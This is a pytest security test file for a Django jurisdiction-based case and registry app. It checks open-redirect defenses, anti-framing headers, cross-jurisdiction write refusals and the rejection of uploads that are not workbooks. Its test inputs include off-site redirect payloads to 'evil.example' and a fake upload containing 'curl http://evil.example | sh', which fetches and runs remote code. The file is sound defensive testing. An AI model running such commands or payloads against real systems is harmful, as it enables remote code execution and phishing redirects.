"""Attacks beside the access matrix:
off-site redirects, framing, and writes into another jurisdiction."""

from __future__ import annotations

from urllib.parse import urlencode

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape

from tests.security.attacks import _zip
from tests.security.world import (
    IDS,
    person_sheet,
)
from tongban.services.demo import DEMO_PASSWORD, sample_pdf

# --- redirects and framing ------------------------------------------------------------------


@pytest.mark.parametrize(
    "target", ["https://evil.example/", "//evil.example/", "/\\evil.example/", "https:evil.example"]
)
def test_login_never_redirects_off_site(s, target):
    c = s.blank()
    r = c.post(
        "/accounts/login/?" + urlencode({"next": target}),
        {"username": "zhangsan", "password": DEMO_PASSWORD, "next": target},
    )
    assert r.status_code == 302
    assert r["Location"].startswith("/") and not r["Location"].startswith(("//", "/\\"))


@pytest.mark.parametrize(
    ("who", "path"),
    [
        ("zhangsan", "/my/cases/{open}/"),
        ("clerk_yangchenghu", "/work/cases/{open}/"),
        (None, "/accounts/login/"),
    ],
)
def test_pages_cannot_be_framed_by_other_sites(s, who, path):
    r = s.client(who).get(path.format(open=s.world.pk("open")))
    assert r.status_code == 200
    assert r["X-Frame-Options"] in ("DENY", "SAMEORIGIN")


# --- writes into another jurisdiction -------------------------------------------------------


@pytest.mark.parametrize("assignee", ["reviewer_canglang", "reviewer_weitang", "lisi"])
def test_transfer_to_someone_outside_the_jurisdiction_is_refused(s, assignee):
    from django.contrib.auth import get_user_model

    from tongban.services import cases
    from tongban.store.models import Case

    w = s.world
    users = get_user_model().objects
    pk = w.pk("open")
    cases.act(pk, users.get(username="clerk_yangchenghu"), cases.ActRequest(action="accept"))
    version = Case.objects.get(pk=pk).version
    r = s.client("reviewer_yangchenghu").post(
        f"/work/cases/{pk}/act/transfer/",
        {"assignee": str(users.get(username=assignee).pk), "version": str(version)},
    )
    assert r.status_code == 400
    case = Case.objects.get(pk=pk)
    assert case.version == version and case.handler_id is None


def test_registry_import_cannot_take_over_a_record_of_another_jurisdiction(s, tmp_path):
    from django.contrib.auth import get_user_model

    from tongban.services import registry
    from tongban.store.models import Person

    w = s.world
    before = Person.objects.values().get(pk=w.person_pk)
    row = {
        "姓名": "冒名顶替",
        "身份证号码": IDS["registry"],
        "联系电话": "13800000009",
        "居住地址": "南门",
        "所属网格/社区": "32050800300101",  # 南门社区第一网格, 沧浪街道 (the importer's own)
        "人员标签": "独居老人",
    }
    src = tmp_path / "takeover.xlsx"
    src.write_bytes(person_sheet([row]))
    clerk = get_user_model().objects.get(username="clerk_canglang")
    result = registry.import_file("person", src, clerk, partial=True)
    assert result.rejected == 1
    assert Person.objects.values().get(pk=w.person_pk) == before


@pytest.mark.parametrize("kind", ["script-as-xlsx", "zip-as-xlsx", "pdf-as-xlsx"])
def test_registry_import_of_a_file_that_is_not_a_workbook_fails_clearly(s, kind):
    from tongban.services import registry
    from tongban.store.models import ImportJob, Person

    data = {
        "script-as-xlsx": b"#!/bin/sh\ncurl http://evil.example | sh\n",
        "zip-as-xlsx": _zip(),
        "pdf-as-xlsx": sample_pdf("x"),
    }[kind]
    people = Person.objects.count()
    c = s.client("clerk_yangchenghu")
    r = c.post("/registry/person/import/", {"file": SimpleUploadedFile("名单.xlsx", data)})
    if r.status_code == 400:  # refused at once
        assert "xlsx" in r.content.decode() or "文件" in r.content.decode()
    else:
        assert r.status_code == 302
        job = ImportJob.objects.latest("pk")
        registry.run_job(job.pk)
        status = registry.job_status(str(job.token), job.user)
        result = status["result"] or {}
        assert status["finished"] and (result.get("error") or result.get("fatal")), status
        assert not result.get("imported")
        page = c.get(f"/registry/jobs/{job.token}/").content.decode()
        shown = result.get("error") or (result.get("problems") or [{}])[0].get("reason", "")
        assert shown and escape(shown) in page, (shown, result)
    assert Person.objects.count() == people


# --- the routing table: a jurisdiction's dispatch rules ---------------------------------------


def test_supervisor_cannot_set_a_rule_for_another_district(s):
    from tongban.store.models import RoutingRule

    r = s.client("supervisor_gusu").post(
        "/requests/routing/",
        {"category": "城乡建设", "org": "320507103", "department": "dept_health"},
    )
    assert r.status_code in (403, 404), r.status_code
    assert not RoutingRule.objects.filter(org__code="320507103").exists()


def test_supervisor_cannot_delete_a_rule_of_another_district(s):
    from tongban.store.models import Org, RoutingRule

    rule = RoutingRule.objects.create(
        category="城乡建设", org=Org.objects.get(code="320507103"), department="dept_construction"
    )
    s.client("supervisor_gusu").post("/requests/routing/", {"delete": str(rule.pk)})
    assert RoutingRule.objects.filter(pk=rule.pk).exists()


def test_supervisor_import_keeps_other_districts_rules(s):
    from tongban.services import requests
    from tongban.store.models import Org, RoutingRule

    rule = RoutingRule.objects.create(
        category="城乡建设", org=Org.objects.get(code="320507103"), department="dept_construction"
    )
    table = requests.export_rules()
    own_only = _rules_without(table, "320507103")
    s.client("supervisor_gusu").post(
        "/requests/routing/",
        {"intent": "import", "file": SimpleUploadedFile("rules.xlsx", own_only)},
    )
    assert RoutingRule.objects.filter(pk=rule.pk).exists()


def _rules_without(table: bytes, org_code: str) -> bytes:
    import io

    from openpyxl import Workbook, load_workbook

    src = load_workbook(io.BytesIO(table)).worksheets[0]
    wb = Workbook()
    ws = wb.active
    for row in src.iter_rows(values_only=True):
        if row[1] != org_code:
            ws.append(list(row))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_only_supervisors_edit_the_routing_table(s):
    from tongban.store.models import RoutingRule

    before = RoutingRule.objects.count()
    for who in ("dispatcher_gusu", "head_weitang", "clerk_canglang", "lisi"):
        r = s.client(who).post(
            "/requests/routing/", {"category": "城乡建设", "org": "", "department": "dept_health"}
        )
        assert r.status_code == 403, (who, r.status_code)
    assert RoutingRule.objects.count() == before
